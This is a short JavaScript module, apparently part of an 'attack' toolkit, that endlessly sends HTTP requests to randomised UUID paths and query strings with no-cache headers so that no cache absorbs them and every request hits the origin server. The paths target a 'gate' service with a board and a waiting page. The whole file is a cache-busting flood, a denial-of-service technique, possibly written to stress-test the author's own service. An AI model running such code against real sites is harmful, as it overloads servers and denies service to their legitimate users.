// Asks for addresses that nobody asked for before, so that no cache between helps.
import { randomUUID } from 'node:crypto';
import { forEver, send, settings } from './attack.mjs';

const pages = settings.pages ?? ['/gate/board.json', '/', '/gate/wait', '/gate/how'];
let next = 0;
forEver(() => {
  const page = pages[next++ % pages.length];
  const path = next % 2 === 0 ? `${page}?${randomUUID()}` : `/${randomUUID()}`;
  return send({ path, headers: { 'cache-control': 'no-cache', accept: next % 3 === 0 ? 'text/html' : '*/*' } });
});
